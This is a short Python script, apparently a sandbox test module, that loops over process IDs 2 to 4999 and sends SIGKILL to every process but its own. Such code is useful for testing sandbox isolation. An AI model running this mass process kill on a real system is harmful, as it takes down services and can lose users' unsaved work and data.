# tries: to kill by guessing numbers
# ways: box test module
import os
import signal
for pid in range(2, 5000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
